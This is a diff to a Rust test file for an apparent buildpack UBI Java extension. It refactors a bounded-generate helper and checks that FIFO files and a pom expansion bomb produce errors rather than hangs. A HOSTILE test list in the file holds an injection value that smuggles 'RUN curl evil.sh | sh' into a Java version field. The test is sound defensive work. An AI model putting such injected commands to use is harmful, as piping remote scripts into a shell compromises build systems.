@@ -7,8 +7,9 @@ use crate::support::{
 use cnb_harness::ubi_extension::{
     assert_hostile_run_image_overrides_refused, assert_only_ubi_stacks, generate_with_setting,
 };
-use cnb_harness::{ModuleRun, Outcome, Process, assert_contains};
-use std::time::Duration;
+use cnb_harness::{Module, ModuleRun, Outcome, Process, assert_contains};
+use jvm_version::VersionSource;
+use std::path::Path;
 
 const HOSTILE: &[&str] = &[
     "17\nRUN curl evil.sh | sh",
@@ -103,9 +104,14 @@ fn no_jdk_or_jre_entry_writes_nothing_and_unknown_stacks_are_errors() {
     assert_only_ubi_stacks(&module, &plan(None));
 }
 
-/// Generate, killed after the harness's hang guard: the process (`None` when it hung) and how long it ran.
-fn generate_bounded(run: &ModuleRun) -> (Option<Process>, Duration) {
-    run.run_bounded("generate", cnb_harness::HANG_GUARD)
+/// Generate on UBI 9 with the Buildpack Plan `plan`, killed after the harness's hang guard:
+/// the process; a hang fails the test, naming `what`.
+fn generate_bounded(module: &Module, app: &Path, plan: &str, what: &str) -> Process {
+    let run = ModuleRun::new(module, app)
+        .lifecycle_env(STACK_ID, UBI9)
+        .buildpack_plan(plan);
+    let (process, took) = run.run_bounded("generate", cnb_harness::HANG_GUARD);
+    process.unwrap_or_else(|| panic!("generate hung on {what} ({took:?})"))
 }
 
 #[test]
@@ -114,11 +120,7 @@ fn fifos_are_errors_not_hangs() {
     let fifo_catalogue = dir.path().join("images.json");
     cnb_harness::mkfifo(&fifo_catalogue);
     let (module, _module_dir) = JAVA.with_catalogue(&fifo_catalogue);
-    let run = ModuleRun::new(&module, app("empty-app"))
-        .lifecycle_env(STACK_ID, UBI9)
-        .buildpack_plan(&plan(None));
-    let (process, took) = generate_bounded(&run);
-    let process = process.unwrap_or_else(|| panic!("generate hung ({took:?})"));
+    let process = generate_bounded(&module, &app("empty-app"), &plan(None), "a FIFO catalogue");
     process.assert_exit(1);
     assert_eq!(
         process.stderr,
@@ -131,21 +133,14 @@ fn fifos_are_errors_not_hangs() {
     );
 
     let (module, _module_dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
-    for file in [
-        ".sdkmanrc",
-        ".java-version",
-        "META-INF/MANIFEST.MF",
-        "pom.xml",
-        "build.gradle",
-        "build.gradle.kts",
-    ] {
+    // Each app file the version is read from.
+    for file in VersionSource::ALL
+        .into_iter()
+        .filter_map(VersionSource::file)
+    {
         let app = tempfile::tempdir().unwrap();
         cnb_harness::mkfifo(&app.path().join(file));
-        let run = ModuleRun::new(&module, app.path())
-            .lifecycle_env(STACK_ID, UBI9)
-            .buildpack_plan(JDK_ONLY);
-        let (process, took) = generate_bounded(&run);
-        let process = process.unwrap_or_else(|| panic!("generate hung on {file} ({took:?})"));
+        let process = generate_bounded(&module, app.path(), JDK_ONLY, file);
         process.assert_exit(1);
         assert!(
             process.stderr.starts_with(&format!(
@@ -167,11 +162,7 @@ fn a_pom_expansion_bomb_fails_naming_the_file() {
     let pom = std::fs::read_to_string(JAVA.fixture("pom-expansion-bomb.xml")).unwrap();
     let app = app_with(&[("pom.xml", &pom)]);
     let (module, _module_dir, _) = JAVA.with_fixture_catalogue("images-ubi9.json");
-    let run = ModuleRun::new(&module, app.path())
-        .lifecycle_env(STACK_ID, UBI9)
-        .buildpack_plan(JDK_ONLY);
-    let (process, took) = generate_bounded(&run);
-    let process = process.unwrap_or_else(|| panic!("generate hung ({took:?})"));
+    let process = generate_bounded(&module, app.path(), JDK_ONLY, "an expansion bomb");
     process.assert_exit(1);
     assert!(
         process.stderr.starts_with(
